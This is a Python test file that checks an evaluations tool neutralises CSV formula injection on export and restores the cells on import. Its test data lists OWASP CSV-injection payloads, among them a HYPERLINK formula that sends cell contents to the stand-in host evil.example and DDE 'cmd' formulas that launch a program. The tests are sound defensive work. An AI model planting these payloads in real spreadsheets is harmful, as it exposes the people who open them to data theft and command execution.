"""CSV formula injection (OWASP "CSV Injection"): every cell a spreadsheet would run as a formula is written as
text, numbers stay numbers, and the importers undo the escape so export → import round-trips byte for byte."""
from __future__ import annotations

import csv
import io
import itertools
from pathlib import Path

import pytest

from evaluations.importing import export_to_path, import_file
from evaluations.models import EvaluatedModel, ModelResponse, TestCase, TheoBertCase
from evaluations.spreadsheet import FORMULA_PREFIXES, csv_cell_protect, csv_cell_unprotect, csv_writer
from tests.evaluations.test_importing import case, response, theobert, write_json

# The payloads of OWASP's CSV Injection page, and cells a spreadsheet would otherwise evaluate.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- a Markdown bullet that a spreadsheet reads as a formula",
]


def dangerous(cell: str) -> bool:
    """What a spreadsheet would try to evaluate: a leading trigger character on anything but a plain number,
    also after the leading whitespace (spaces, tabs, carriage returns, line feeds) that spreadsheets trim."""
    trimmed = cell.lstrip(" \t\r\n")
    if cell[:1] in FORMULA_PREFIXES:
        candidate = cell
    elif trimmed[:1] in ("=", "+", "-", "@"):
        candidate = trimmed
    else:
        return False
    try:
        float(candidate)
    except ValueError:
        return True
    return False


def spreadsheet_rows(data: bytes) -> list[list[str]]:
    """The rows a spreadsheet sees: a carriage return outside quotes ends a row (as `csv.reader` does)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


WHITESPACE_FORMULAS = [" =1+1", "  +cmd|' /C calc'!A0", "\n=1+1", "\r\n@SUM(1+1)", " \t-2+3", "\n\n=HYPERLINK(\"x\")",
                       " - a bullet after a space"]


@pytest.mark.parametrize("payload", ATTACKS)
def test_a_formula_is_written_as_text(payload: str) -> None:
    assert csv_cell_protect(payload) == "'" + payload
    assert csv_cell_unprotect(csv_cell_protect(payload)) == payload


@pytest.mark.parametrize("number", ["-0.25", "-0.250000", "+3", "-1", "-1.5e-3", "+.5", "-7.", "0", "12"])
def test_numbers_stay_numbers(number: str) -> None:
    assert csv_cell_protect(number) == number
    assert csv_cell_unprotect(number) == number
    assert csv_cell_protect(-0.25) == -0.25 and csv_cell_protect(None) is None


def test_an_apostrophe_the_importer_would_strip_is_escaped_too() -> None:
    assert csv_cell_protect("'=x") == "''=x"
    assert csv_cell_unprotect("''=x") == "'=x"
    assert csv_cell_protect("'quoted'") == "'quoted'"  # an ordinary apostrophe is left alone
    assert csv_cell_unprotect("'quoted'") == "'quoted'"
    assert csv_cell_protect("'-0.25") == "'-0.25"


@pytest.mark.parametrize("payload", WHITESPACE_FORMULAS)
def test_formula_after_whitespace_is_written_as_text(payload: str) -> None:
    assert csv_cell_protect(payload) == "'" + payload
    assert csv_cell_unprotect(csv_cell_protect(payload)) == payload


@pytest.mark.parametrize("number", [" -0.25", "\n+3", "  -1.5e-3"])
def test_formula_after_whitespace_leaves_numbers_alone(number: str) -> None:
    assert csv_cell_protect(number) == number


def test_formula_after_whitespace_carriage_return_cells_are_quoted_so_no_row_starts_with_a_formula() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["id", "prompt", "score"])
    writer.writerow(["C-1", "\r=1+1", -0.25])
    writer.writerow(["C-2", "ordinary\rtext", 3])
    rows = spreadsheet_rows(buffer.getvalue().encode())
    assert rows == [["id", "prompt", "score"], ["C-1", "'\r=1+1", "-0.25"], ["C-2", "ordinary\rtext", "3"]]
    assert not [cell for row in rows for cell in row if dangerous(cell)]


def test_protect_is_injective_and_unprotect_inverts_it_over_every_short_string() -> None:
    """Exhaustive over an alphabet of the characters that matter, up to five characters (~100,000 strings)."""
    alphabet = "=+-@\t\r\n'1.e "
    seen: dict[str, str] = {}
    for length in range(6):
        for chars in itertools.product(alphabet, repeat=length):
            text = "".join(chars)
            written = csv_cell_protect(text)
            assert csv_cell_unprotect(written) == text, repr(text)
            assert not dangerous(written), repr(text)
            assert seen.setdefault(written, text) == text, (text, seen[written])


def formula_records() -> tuple[list[dict], list[dict], list[dict]]:
    cases = [
        case("F-1", prompt=ATTACKS[0], reference_answer="- first point\n- second point"),
        case("F-2", prompt="@SUM(A1:A9)", reference_answer="'=already quoted by hand"),
        case("F-3", prompt="+cmd|' /C calc'!A0", reference_answer="-0.25"),
        case("F-4", prompt="\r=1+1", reference_answer=" =2+2"),
        case("F-5", prompt="\n@SUM(1+1)", reference_answer="\t =3"),
    ]
    responses = [
        response("F-1", text="=1+1", system_prompt="\t=tab first"),
        response("F-2", text="- bullet one\n- bullet two", system_prompt="-1", temperature=-0.0),
    ]
    tb = [theobert("T-F", reference="=Romans 5:10", reasoning="-because", surface_confounder="@mention")]
    return cases, responses, tb


def test_formula_after_whitespace_every_evaluations_csv_export_neutralises_formulas_and_round_trips(
        db, tmp_path: Path) -> None:
    cases, responses, tb = formula_records()
    import_file(path=write_json(tmp_path / "c.json", cases), kind="cases")
    import_file(path=write_json(tmp_path / "r.json", responses), kind="responses")
    import_file(path=write_json(tmp_path / "t.json", tb), kind="theobert")
    stored = {kind: _db_values(kind) for kind in ("cases", "responses", "theobert")}
    first = {}
    for kind in ("cases", "responses", "theobert"):
        out = tmp_path / f"first-{kind}.csv"
        export_to_path(kind=kind, path=out, include_held_out=True)
        first[kind] = out.read_bytes()
        cells = [cell for row in spreadsheet_rows(first[kind]) for cell in row]
        assert not [cell for cell in cells if dangerous(cell)], kind
        assert not [row for row in spreadsheet_rows(first[kind]) if row and dangerous(row[0])], kind
    assert "'=HYPERLINK(" in first["cases"].decode() and "'- first point" in first["cases"].decode()
    assert "''=already quoted by hand" in first["cases"].decode()

    ModelResponse.objects.all().delete()
    EvaluatedModel.objects.all().delete()
    TestCase.objects.all().delete()
    TheoBertCase.objects.all().delete()
    for kind in ("cases", "responses", "theobert"):
        import_file(path=tmp_path / f"first-{kind}.csv", kind=kind)
        assert _db_values(kind) == stored[kind], kind  # the apostrophes did not reach the database
    for kind in ("cases", "responses", "theobert"):
        out = tmp_path / f"second-{kind}.csv"
        export_to_path(kind=kind, path=out, include_held_out=True)
        assert out.read_bytes() == first[kind], kind


def _db_values(kind: str) -> list[tuple]:
    if kind == "cases":
        return list(TestCase.objects.order_by("external_id").values_list("external_id", "prompt", "reference_answer"))
    if kind == "responses":
        return list(ModelResponse.objects.order_by("test_case__external_id")
                    .values_list("test_case__external_id", "text", "system_prompt"))
    return list(TheoBertCase.objects.order_by("case_id")
                .values_list("case_id", "reference", "reasoning", "surface_confounder"))
